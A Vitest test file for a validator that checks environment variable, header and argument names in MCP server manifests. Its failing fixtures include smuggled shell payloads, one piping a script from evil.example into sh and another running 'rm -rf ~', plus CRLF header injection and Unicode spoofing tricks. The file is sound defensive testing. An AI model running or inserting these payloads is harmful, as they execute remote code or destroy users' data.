import { describe, expect, it } from 'vitest';
import { isEnvVarName, isHeaderName } from '../../scripts/rules/identifiers.ts';
import { base, check, expectClean, expectProblem, npm, ruleCases, withPkg } from './helpers.ts';

const env = (name: string) => withPkg(npm({ environmentVariables: [{ name, default: 'info' }] }));
const remoteHeader = (name: string) =>
  base({ remotes: [{ type: 'streamable-http', url: 'https://mcp.example.com/mcp', headers: [{ name }] }] });
const packageHeader = (name: string) =>
  withPkg(npm({ transport: { type: 'streamable-http', url: 'http://localhost:3000/mcp', headers: [{ name }] } }));
const named = (name: string) => withPkg(npm({ packageArguments: [{ type: 'named', name }] }));

describe('identifier rules', () => {
  ruleCases([
    {
      rule: 'env-var-name',
      why: 'a name that smuggles a command substitution into the shell line (issue 9 §5)',
      pass: env('LOG_LEVEL'),
      fail: env('X=$(curl -s https://evil.example/p|sh) LOG_LEVEL'),
      jsonPath: '$.packages[0].environmentVariables[0].name',
    },
    {
      rule: 'header-name',
      why: 'a header name with a space and a colon',
      pass: remoteHeader('X-API-Key'),
      fail: remoteHeader('X-Key: evil'),
      jsonPath: '$.remotes[0].headers[0].name',
    },
  ]);

  it.each(['A', '_', 'API_KEY', 'a1', '__x__'])('env-var-name: %s passes', (name) => {
    expectClean(check(env(name)).problems, 'env-var-name');
  });

  it.each([
    ['empty', ''],
    ['leading digit', '1PASSWORD'],
    ['dash', 'API-KEY'],
    ['dot', 'api.key'],
    ['space', 'API KEY'],
    ['equals', 'A=B'],
    ['dollar', '$HOME'],
    ['substitution syntax', '${env:HOME}'],
    ['semicolon', 'A;rm -rf ~'],
    ['newline', 'A\nB'],
    ['backtick', 'A`id`'],
    ['non-ASCII letter', 'CLÉ'],
    ['zero-width space', 'API\u200bKEY'],
    ['right-to-left override', 'KEY\u202e'],
  ])('env-var-name: fails a name with a %s', (_, name) => {
    expectProblem(check(env(name)), 'env-var-name', '$.packages[0].environmentVariables[0].name');
  });

  it.each(['Authorization', 'X-API-Key', "x!#$%&'*+.^_`|~1"])('header-name: %s passes', (name) => {
    expectClean(check(remoteHeader(name)).problems, 'header-name');
  });

  it.each([
    ['empty', ''],
    ['space', 'X API'],
    ['colon', 'X:Y'],
    ['CR LF', 'X-A\r\nX-Injected'],
    ['brace', 'X-${env:HOME}'],
    ['quote', 'X"Y'],
    ['non-ASCII', 'X-Clé'],
    ['zero-width joiner', 'X\u200dY'],
  ])('header-name: fails a name with a %s, in remotes and package transports', (_, name) => {
    expectProblem(check(remoteHeader(name)), 'header-name', '$.remotes[0].headers[0].name');
    expectProblem(check(packageHeader(name)), 'header-name', '$.packages[0].transport.headers[0].name');
  });

  it.each([
    ['a tab', '--port\t'],
    ['a NUL', '--po\u0000rt'],
    ['a zero-width space', '--po\u200brt'],
    ['a bidirectional override', '--\u202etrop'],
    ['a no-break space', '--a\u00a0b'],
    ['an empty name', ''],
  ])('argument-name: fails %s (what makes a flag look like another one)', (_, name) => {
    expectProblem(check(named(name)), 'argument-name', '$.packages[0].packageArguments[0].name');
  });

  it.each(['--port', '-v', 'config', 'output-format', '--with=x'])('argument-name: %s passes', (name) => {
    expectClean(check(named(name)).problems, 'argument-name');
  });

  it('the predicates the generator uses are the rules', () => {
    expect(['PATH', 'X=1', ''].map(isEnvVarName)).toEqual([true, false, false]);
    expect(['Accept', 'A B', ''].map(isHeaderName)).toEqual([true, false, false]);
  });
});
